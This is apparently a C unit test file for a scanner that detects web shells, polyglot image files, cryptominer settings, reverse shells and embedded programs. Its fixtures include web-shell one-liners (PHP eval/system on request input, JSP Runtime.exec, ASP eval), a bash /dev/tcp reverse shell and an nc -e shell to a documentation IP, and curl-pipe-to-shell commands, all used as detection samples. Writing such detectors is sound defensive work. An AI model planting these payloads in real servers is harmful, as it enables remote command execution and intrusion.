/* SPDX-License-Identifier: Apache-2.0 */
/* Code for web servers is found wherever it stands, and pictures are left alone. */
#include "unit/cmocka_all.h"

#include <string.h>

#include "core/cleanup.h"
#include "diff/contentscan.h"
#include "diff/facts.h"
#include "diff/magic.h"

#define TEXT(t) t, sizeof(t) - 1

static const struct {
	const char *what;
	const char *bytes;
	size_t len;
	bool is_code;
} files[] = {
	{"PHP behind a picture's header", TEXT("GIF89a\1\0<?php eval($_GET[1]);"), true},
	{"in letters of any case", TEXT("GIF89a<?pHp\nsystem(1);"), true},
	{"at the end of the file", TEXT("\211PNG....<?php"), true},
	{"a word that only begins like it", TEXT("x <?phpdoc ?>"), false},
	{"a short echo", TEXT("\377\330\377\341<?=`$_GET[1]`?>"), true},
	{"a short echo behind blanks", TEXT("GIF89a<?=  $_GET[0]($_GET[1]);"), true},
	{"three bytes that are anywhere", TEXT("\1<?=\2\3$\4"), false},
	{"and five that are nearly so", TEXT("\1<?=$\3\4abcdefg"), false},
	{"an XML declaration", TEXT("<?xml version=\"1.0\"?><a/>"), false},
	{"a page of JSP", TEXT("\n<%@ page import=\"java.util.*\" %>"), true},
	{"JSP as XML", TEXT("<html><jsp:scriptlet>x</jsp:scriptlet>"), true},
	{"the old tag", TEXT("<p><SCRIPT LANGUAGE=\"PHP\">x</script>"), true},
	{"a tag of today", TEXT("<script src=\"x.js\"></script>"), false},
	{"a short echo of a call", TEXT("GIF89a<?= @system('id') ?>"), true},
	{"the short tag", TEXT("GIF89a<?\n$x = 1; echo $x;"), true},
	{"a generic type", TEXT("List<? extends Foo(x)> and Map<?, ?>"), false},
	{"a tag of an attribute", TEXT("x <%@page import=\"x\"%>"), true},
	{"a handler of ASP.NET", TEXT("<%@ WebHandler Language=\"C#\" Class=\"H\" %>"), true},
	{"a variable of ERB", TEXT("<p><%=@name%> <% if x %>"), false},
	{"a scriptlet that starts a process",
	 TEXT("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"), true},
	{"a scriptlet that ended before", TEXT("<% x %> getRuntime()"), false},
	{"classic ASP", TEXT("<%eval request(\"c\")%>"), true},
	{"code of ASP.NET", TEXT("<script language=\"C#\" runat=\"server\">"), true},
	{"JSP in UTF-16, low byte first", TEXT("\377\376<\0%\0@\0 \0p\0a\0g\0e\0 \0"), true},
	{"PHP in UTF-16, high byte first", TEXT("\376\377\0<\0?\0p\0h\0p\0 \0x"), true},
	{"a table of wide characters", TEXT("<\0=\0>\0?\0@\0A\0"), false},
	{"a server-side include", TEXT("<p><!--#exec cmd=\"id\" -->"), true},
	{"a comment", TEXT("<p><!-- exec -->"), false},
	{"nothing", "", 0, false},
};

/* What the scan says of the whole, handed over in pieces of @step bytes. */
static uint64_t scan(const void *bytes, size_t len, size_t step)
{
	struct contentscan s = {0};

	for (size_t i = 0; i < len; i += step)
		contentscan_feed(&s, (const char *)bytes + i, len - i < step ? len - i : step);
	return s.signals;
}

static void marks_are_told_from_what_looks_alike(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		uint64_t found = scan(files[i].bytes, files[i].len, SIZE_MAX / 2);

		if (((found & SL_SIGNAL_SERVER_CODE) != 0) != files[i].is_code)
			fail_msg("%s", files[i].what);
	}
}

static const struct {
	const char *what;
	const char *bytes;
	uint64_t signals;
} meanings[] = {
	{"code that is unpacked and run", "<?php eval(base64_decode('aWQ='));",
	 SL_SIGNAL_RUNS_INPUT},
	{"in two coats", "<?php @EVAL (gzinflate(base64_decode(\"x\")));", SL_SIGNAL_RUNS_INPUT},
	{"a command that was sent", "<?=system($_GET['c']);", SL_SIGNAL_RUNS_INPUT},
	{"a function that was sent", "<?php $_POST['a']($_POST['b']);", SL_SIGNAL_RUNS_INPUT},
	{"a body that was sent", "<?php eval(file_get_contents('php://input'));",
	 SL_SIGNAL_RUNS_INPUT},
	{"a command that was sent to Java",
	 "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", SL_SIGNAL_RUNS_INPUT},
	{"a command of its own", "<?php exec('convert ' . escapeshellarg($f)); $_GET['x'];", 0},
	{"a picture that is unpacked", "<?php $x = base64_decode($_POST['image']); save($x);", 0},
	{"a template that is run", "<?php eval('?>' . $this->compiled);", 0},
	{"a list of functions", "<?php $x[0]($y); $f = 'system';", 0},
	{"packed words in no code at all", "eval(base64_decode('x'));", 0},
	{"a pool in a program", "\177ELF...stratum+ssl://pool.example:443", SL_SIGNAL_MINER},
	{"words about pools", "a stratum+ of rock, stratum://x, stratum+ftp://", 0},
	{"a miner's settings",
	 "\n{ \"pools\": [{\"url\": \"a:1\", \"coin\": \"monero\", \"rig-id\": 1}]}",
	 SL_SIGNAL_MINER},
	{"a database's settings", "{\"pools\": [], \"coin\": 1, \"pass\": 2}", 0},
	{"a text about a miner's settings", "Set \"pools\", \"coin\" and \"rig-id\".", 0},
};

static void what_code_does_and_miners_are_told_from_what_looks_alike(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(meanings); i++) {
		uint64_t found = scan(meanings[i].bytes, strlen(meanings[i].bytes), SIZE_MAX / 2);

		if ((found & (SL_SIGNAL_RUNS_INPUT | SL_SIGNAL_MINER)) != meanings[i].signals)
			fail_msg("%s: %#llx", meanings[i].what, (unsigned long long)found);
	}
}

#define HEADER "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\76\0\1\0\0\0"
#define FILLING "................................................................"

static const struct {
	const char *what, *bytes;
	size_t len;
	uint64_t signals;
} hidden[] = {
#define ROW(what, text, signals)                                                                   \
	{                                                                                          \
		(what), (text), sizeof(text) - 1, (signals)                                        \
	}
	ROW("a shell on a connection", "x\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n",
	    SL_SIGNAL_SHELL_CODE),
	ROW("a relay with a shell", "nc 203.0.113.7 4 -e /bin/sh\n", SL_SIGNAL_SHELL_CODE),
	ROW("what has another -e", "docker run -e /bin/x\nset -e /bin/sh\n", 0),
	ROW("what is fetched and run", "while :; do curl -s x | sh; done", SL_SIGNAL_SHELL_CODE),
	ROW("by any shell", "curl -s x | mksh\n", SL_SIGNAL_SHELL_CODE),
	ROW("what is decoded and run", "a\nbase64 -d <b|bash\nc\n", SL_SIGNAL_SHELL_CODE),
	ROW("in a comment", "  # curl -s x | sh\n", 0),
	ROW("a port that is waited for", "until >/dev/tcp/db/5432; do sleep 1; done", 0),
	ROW("a table", "| name | shell |\n| a | bash |\n", 0),
	ROW("what is fetched and read", "curl -s x | python3 -m json.tool\n", 0),
	ROW("behind a control character", "\1 curl -s x | sh\n", 0),
	ROW("a program behind other bytes", FILLING HEADER, SL_SIGNAL_PROGRAM_INSIDE),
	ROW("in letters", "key=\nf0VMRgIBAQAAAAAA\n", SL_SIGNAL_PROGRAM_INSIDE),
	ROW("in a program", HEADER FILLING HEADER, 0),
	ROW("a word about it", FILLING "\177ELF is how it begins, f0VMRgAA in letters", 0),
	ROW("what is cut off", FILLING "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2", 0),
#undef ROW
};

static void shells_and_programs_are_told_from_what_looks_alike(void **state)
{
	const uint64_t both = SL_SIGNAL_SHELL_CODE | SL_SIGNAL_PROGRAM_INSIDE;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(hidden); i++)
		for (size_t step = 1; step < 200; step += 60) {
			uint64_t found = scan(hidden[i].bytes, hidden[i].len,
					      step == 1 ? SIZE_MAX / 2 : step);

			if ((found & both) != hidden[i].signals)
				fail_msg("%s: %#llx", hidden[i].what, (unsigned long long)found);
		}
}

static void a_program_is_found_wherever_it_begins(void **state)
{
	static const char header[] = HEADER;
	uint8_t file[128];

	(void)state;
	for (size_t size = 60; size < 76; size++)
		for (size_t at = 1; at + sizeof(header) - 1 <= size; at++) {
			memset(file, 'x', sizeof(file));
			memcpy(file + at, header, sizeof(header) - 1);
			assert_true((scan(file, size, size) & SL_SIGNAL_PROGRAM_INSIDE) != 0);
		}
}

static void pieces_of_any_size_say_the_same(void **state)
{
	static const char *const said[] = {"<script language=\"php\">", "<\0?\0p\0h\0p\0 \0",
					   "<?php eval(base64_decode('aWQ='));",
					   "stratum+tcp://pool.example:1"};
	static const size_t lens[] = {23, 12, 34, 28};
	uint8_t file[700];

	(void)state;
	for (size_t n = 0; n < ARRAY_SIZE(said); n++) {
		for (size_t at = 0; at < 600; at += 37) {
			uint64_t whole;

			memset(file, 'x', sizeof(file));
			memcpy(file + at, said[n], lens[n]);
			whole = scan(file, sizeof(file), sizeof(file));
			assert_int_not_equal(whole, 0);
			for (size_t step = 1; step < 300; step += 1 + step / 8)
				if (scan(file, sizeof(file), step) != whole)
					fail_msg("%zu at %zu, in pieces of %zu", n, at, step);
		}
	}
}

/* 64 MiB of zeros with @text behind @before of them; @size as it is told. */
static uint64_t scan_large(uint64_t before, const char *text, uint64_t size)
{
	static const uint8_t zeros[1 << 16];
	struct contentscan s = {.size = size};
	uint64_t fed = 0;

	for (; fed < before; fed += sizeof(zeros))
		contentscan_feed(&s, zeros, sizeof(zeros));
	contentscan_feed(&s, text, strlen(text));
	for (; fed < (uint64_t)64 << 20; fed += sizeof(zeros))
		contentscan_feed(&s, zeros, sizeof(zeros));
	return s.signals;
}

static void a_payload_behind_the_beginning_of_a_large_file_is_found_at_its_end(void **state)
{
	const uint64_t partly = SL_SIGNAL_PARTLY_SEARCHED, size = (uint64_t)64 << 20;

	(void)state;
	assert_true(scan_large((uint64_t)7 << 20, "<?php ", size) ==
		    (partly | SL_SIGNAL_SERVER_CODE));
	assert_true(scan_large(size, "<?php ", size + 6) == (partly | SL_SIGNAL_SERVER_CODE));
	assert_true(scan_large(size - 4096, "<?php ", size) == (partly | SL_SIGNAL_SERVER_CODE));
	/* what was not looked at is said, wherever it is */
	assert_true(scan_large((uint64_t)20 << 20, "<?php ", size) == partly);
	assert_true(scan_large(size, "<?php ", 0) == partly);
}

/* Who fills a file with what must be looked at pays with being told on, and we with no hour. */
static void a_search_that_costs_too_much_ends_and_says_so(void **state)
{
	static uint8_t marks[1 << 16];
	struct contentscan s = {0};

	(void)state;
	for (size_t i = 0; i < sizeof(marks); i++)
		marks[i] = (uint8_t) "<?"[i % 2];
	for (unsigned int n = 0; n < 9; n++)
		contentscan_feed(&s, marks, sizeof(marks));
	contentscan_feed(&s, "<?php ", 6);
	assert_int_equal(s.signals, SL_SIGNAL_PARTLY_SEARCHED);
}

static void flags_of_a_record_are_signals_again(void **state)
{
	const uint64_t all = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT | SL_SIGNAL_MINER |
			     SL_SIGNAL_PARTLY_SEARCHED | SL_SIGNAL_SHELL_CODE |
			     SL_SIGNAL_PROGRAM_INSIDE;

	(void)state;
	assert_true(contentscan_signals(contentscan_flags(all)) == all);
	assert_int_equal(contentscan_flags(SL_SIGNAL_ELF), 0);
	assert_int_equal(contentscan_signals(SL_ENTRY_METACOPY), 0);
}

static void a_script_begins_behind_blanks_and_marks(void **state)
{
	static const char *const scripts[] = {"<?php 1;", "\n\n <?PHP 1;", "\357\273\277<?= 1",
					      "\t<%@ page"};
	static const char *const others[] = {"x<?php 1;", "<html>", "\357\273<?php", "  ", "<"};

	(void)state;
	assert_true((magic_facts((const uint8_t *)"\377\376<\0%\0@\0", 8) & FACT_SERVER_SCRIPT) !=
		    0);
	assert_true((magic_facts((const uint8_t *)"\0<\0?\0p\0h\0p", 10) & FACT_SERVER_SCRIPT) !=
		    0);
	assert_true((magic_facts((const uint8_t *)"\377\376<\0a\0", 6) & FACT_SERVER_SCRIPT) == 0);
	for (size_t i = 0; i < ARRAY_SIZE(scripts); i++)
		assert_true((magic_facts((const uint8_t *)scripts[i], strlen(scripts[i])) &
			     FACT_SERVER_SCRIPT) != 0);
	for (size_t i = 0; i < ARRAY_SIZE(others); i++)
		assert_true((magic_facts((const uint8_t *)others[i], strlen(others[i])) &
			     FACT_SERVER_SCRIPT) == 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(marks_are_told_from_what_looks_alike),
		cmocka_unit_test(shells_and_programs_are_told_from_what_looks_alike),
		cmocka_unit_test(a_program_is_found_wherever_it_begins),
		cmocka_unit_test(pieces_of_any_size_say_the_same),
		cmocka_unit_test(what_code_does_and_miners_are_told_from_what_looks_alike),
		cmocka_unit_test(
			a_payload_behind_the_beginning_of_a_large_file_is_found_at_its_end),
		cmocka_unit_test(a_search_that_costs_too_much_ends_and_says_so),
		cmocka_unit_test(flags_of_a_record_are_signals_again),
		cmocka_unit_test(a_script_begins_behind_blanks_and_marks),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
